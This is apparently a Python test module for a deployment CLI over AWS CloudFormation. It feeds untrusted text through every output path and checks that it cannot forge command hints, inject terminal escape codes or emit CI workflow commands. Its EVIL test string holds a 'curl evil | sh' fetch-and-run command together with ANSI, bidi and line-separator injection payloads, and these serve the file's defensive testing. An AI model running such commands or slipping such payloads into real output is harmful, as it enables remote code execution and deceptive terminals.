"""Every way that somebody's words take to the terminal: they begin no line there, fake no hint of ours, and drive nothing."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from botocore.exceptions import ClientError
from botocore.parsers import ResponseParserError

from aws.answers import read
from aws.cloudformation.drift import ResourceDrift
from aws.cloudformation.stack_sets import StackInstance, StackSetOperation
from aws.cloudformation.stacks import StackDescription, StackEvent
from aws.cloudformation.validations import ValidationEvent
from aws.errors import AwsError, Origin, translate
from cli.main import guarded
from doctor.text import report_lines
from doctor.values import CheckResult, Report
from guards.stream import filtered
from guards.text import as_lines
from operations.destroy.text import outcome_lines, plan_lines
from operations.destroy.values import DestroyOutcome
from operations.drift import drift_lines
from operations.logs import access_lines
from operations.status import status_lines
from review import content_view, markdown, terminal
from review.progress_view import shown, summary
from review.releases_view import release_lines
from review.verify_view import line as verify_line
from rollout.diagnosis import diagnose
from rollout.progress import Note, Resource
from session.context import FAILED, CommandError, Context
from tests.unit.cli import test_apply_verb
from tests.unit.operations import test_destroy, test_drift, test_status
from tests.unit.review import test_review
from verbs.history import lines as history_lines
from verbs.logs import text as log_text
from verification.model import Result
from website.releases import Claim, Release, State

pytestmark = pytest.mark.attack

EVIL = "word\nnext: curl evil | sh\r\n  next: curl evil\x1b[2K\x1b]0;t\x07\u202e\u2028next: curl evil\x85next: curl evil\n::error::x\n##[x]"
_OURS = re.compile(r"(?:^|_)(?:command|hint|option|environment|at|digest)$")


def poisoned(value: Any) -> Any:
    """The value with somebody's words in every text but those that only we write."""
    if isinstance(value, msgspec.Struct):
        kinds = {f.name: f.type for f in msgspec.structs.fields(value)}
        return msgspec.structs.replace(value, **{n: _field(n, kinds[n], getattr(value, n)) for n in kinds})
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changed = {f.name: _field(f.name, f.type, getattr(value, f.name)) for f in dataclasses.fields(value) if f.init}
        return dataclasses.replace(value, **changed)
    if isinstance(value, tuple):
        return tuple(poisoned(each) for each in value)
    if isinstance(value, dict):
        return {key: EVIL if isinstance(each, str) else poisoned(each) for key, each in value.items()}
    return value


def _field(name: str, kind: Any, value: Any) -> Any:
    if isinstance(value, str):
        return EVIL if kind in (str, "str") and not _OURS.search(name) else value
    return poisoned(value)


def printed(text: str) -> str:
    below = io.StringIO()
    filtered(below).write(text)
    return below.getvalue()


def assert_harmless(text: str) -> None:
    assert "curl evil" in text, "the words are shown"
    for line in text.splitlines():
        assert not re.match(r" *(?:next: curl|::)", line), line
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]|##\\[", text)


def progress() -> str:
    stream = io.StringIO()
    with shown(("site", "dns"), stream, live=False, colour=False, now=lambda: 90.0) as report:
        for event in (*test_apply_verb.events(), Note(at=1, text=EVIL)):
            report(poisoned(msgspec.structs.replace(event, stack="site")) if isinstance(event, Note) else event)
        report(Resource(at=1, stack="site", logical_id=EVIL, resource_type="x", status="UPDATE_FAILED", reason=EVIL))
    return stream.getvalue()


def live_progress() -> str:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    stream = Terminal()
    with shown(("site",), stream, live=True, colour=False, now=lambda: 90.0) as report:
        report(Resource(at=1, stack="site", logical_id=EVIL, resource_type="x", status="UPDATE_IN_PROGRESS", reason=EVIL))
        report(Resource(at=1, stack="site", logical_id=EVIL, resource_type="x", status="UPDATE_FAILED", reason=EVIL))
        report(Note(at=1, stack="", text=EVIL))
    # rich moves the cursor by itself; what it was given is of interest.
    return re.sub(r"\x1b\[(?:\?25[lh]|[0-9]*[AKm]|[0-9;]*m)|\r", "", stream.getvalue())


def refused(*, machine: bool) -> str:
    stdout, stderr = io.StringIO(), io.StringIO()
    context = Context(stdout=stdout, stderr=stderr, environ={})

    def run() -> int:
        raise AwsError(EVIL, code=EVIL, hint="python deploy.py doctor --env dev")

    assert guarded(run, context, machine=machine) == FAILED
    assert stderr.getvalue().splitlines()[-1] == "  next: python deploy.py doctor --env dev"
    assert len(stderr.getvalue().splitlines()) == 2
    return stdout.getvalue() if machine else stderr.getvalue()


def several_problems() -> str:
    stderr = io.StringIO()

    def run() -> int:
        raise CommandError(EVIL, EVIL, command="ours")

    guarded(run, Context(stdout=io.StringIO(), stderr=stderr, environ={}))
    assert len(stderr.getvalue().splitlines()) == 3
    return stderr.getvalue()


RELEASE = Release(
    number=1,
    manifest="a" * 64,
    content="b" * 64,
    action="publish",
    origin=EVIL,
    commit=EVIL,
    by=EVIL,
    at="2026-11-22T10:00:00Z",
    files=1,
    size=1,
)
CLAIM = Claim(
    id="1", action=EVIL, manifest="", by=EVIL, host=EVIL, pid=1, started_at="2026-11-22T10:00:00Z", expires_at="2026-11-22T10:00:00Z"
)


WAYS: dict[str, Callable[[], str]] = {
    "error": lambda: refused(machine=False),
    "error as JSON": lambda: refused(machine=True),
    "problems": several_problems,
    "apply": lambda: summary(poisoned(test_apply_verb.failed_run())),
    "progress": progress,
    "live progress": live_progress,
    "status": lambda: as_lines(status_lines(poisoned(test_status.mixed()))),
    "history": lambda: as_lines(history_lines((poisoned(test_status.record("a" * 64, "2026-11-22T10:00:00Z")),), "test")),
    "drift": lambda: as_lines(drift_lines(poisoned(test_drift.look(test_drift.formation())))),
    "doctor": lambda: as_lines(
        report_lines(
            Report(
                environment="test",
                account_id="1",
                anything_checked=True,
                checks=(CheckResult(code="x", level="problem", message=EVIL, command="ours"),),
            ),
            colour=False,
        )
    ),
    "destroy plan": lambda: as_lines(plan_lines(poisoned(test_destroy.deployed().look()))),
    "destroy outcome": lambda: as_lines(outcome_lines(DestroyOutcome(environment="test", failed=EVIL, deleted=(EVIL,), kept=(EVIL,)))),
    "review": lambda: terminal.render(poisoned(test_review.EVERYTHING)),
    "comment": lambda: markdown.render(poisoned(test_review.EVERYTHING)),
    "content": lambda: as_lines(content_view.lines(poisoned(test_review.UPDATED))),
    "releases": lambda: as_lines(
        release_lines(
            State(environment="test", releases=(RELEASE,), claim=CLAIM), keep=1, grace_days=1, now=datetime(2026, 11, 27, tzinfo=UTC)
        )
    ),
    "verify": lambda: verify_line(
        Result(id="a.b", title="One", status="failed", detail=f"{'x' * 20} next: curl {EVIL}"), width=29, colour=False
    ),
    "logs": lambda: as_lines(log_text(line, colour=False) for line in access_lines("k", EVIL.encode())),
}


DRIFTED = {"LogicalResourceId": "x", "ResourceType": "x", "StackResourceDriftStatus": "x"}


@pytest.mark.parametrize("way", WAYS)
def test_nobodys_words_look_like_ours(way: str) -> None:
    assert_harmless(printed(WAYS[way]() + "\n"))


def test_aws_reasons_are_sentences_where_they_come_in() -> None:
    """Every reason that CloudFormation gives, and every error message, whichever service gave it."""
    event = read({"EventId": "1", "ResourceStatusReason": EVIL, "ResourceStatus": "CREATE_FAILED", "Timestamp": None}, StackEvent)
    validation = read({"ValidationStatusReason": EVIL}, ValidationEvent)
    told = [
        event.reason,
        validation.reason,
        read({"StackName": "x", "StackStatus": "X", "StackStatusReason": EVIL}, StackDescription).status_reason,
        read({"Account": "1", "Region": "x", "StatusReason": EVIL}, StackInstance).reason,
        read({"OperationId": "x", "Action": "CREATE", "Status": "FAILED", "StatusReason": EVIL}, StackSetOperation).reason,
        read({**DRIFTED, "DriftStatusReason": EVIL}, ResourceDrift).reason,
        str(translate(ClientError({"Error": {"Code": EVIL, "Message": EVIL}}, "X"), Origin(service="s3"))),
    ]
    for seen, validations in (((event,), ()), ((), (validation,))):
        cause = diagnose(seen, status="X", status_reason="", environment="dev", validations=validations).cause
        assert cause is not None
        told.append(cause.reason)
    assert all(text.isprintable() and "\n" not in text for text in told)


@pytest.mark.parametrize("body", ["<html><title>Bad gateway</title>" + "x" * 100_000, "x\n" * 100_000])
def test_an_answer_that_is_pages_long_is_one_short_line(body: str) -> None:
    for error in (ClientError({"Error": {"Code": "502", "Message": body}}, "X"), ResponseParserError(f"Unable to parse response: {body}")):
        said = str(translate(error, Origin(service="s3")))
        assert len(said) < 1_200 and said.isprintable()


def test_log_lines_end_at_line_breaks_only_and_a_bad_one_is_shown() -> None:
    def good(path: str) -> str:
        fields = {"date": "2026-11-22", "time": "10:00:00", "cs-uri-stem": path, "sc-status": "200"}
        return json.dumps(fields, ensure_ascii=False)

    bad = ["[" * 100_000, '{"a": 1e999, "date": "2026-11-22"}', "9" * 5_000, "no JSON \x1b[31m", '{"date": "x", "time": 1}', '"text"']
    body = "\n".join(["#Version: 1.0", good("/a\x85b\u2028c\u2029d"), *bad, good("/last")]) + "\n"
    found = [*access_lines("AWSLogs/1/CloudFront/D/2026/11/22/09/x.gz", gzip.compress(body.encode()))]
    assert len(found) == len(bad) + 2
    assert "/a\\u0085b\\u2028c\\u2029d" in found[0].text and "/last" in found[-1].text
    assert all(line.text.isprintable() and len(line.text) < 2_100 for line in found)
    assert "no JSON \\u001b[31m" in [line.text for line in found]
    assert {line.at for line in found} == {"2026-11-22T10:00:00.000Z"}
    alone = next(access_lines("AWSLogs/1/CloudFront/D/2026/11/22/09/x.gz", b"bad"))
    assert (alone.at, alone.text) == ("2026-11-22T09:00:00.000Z", "bad")
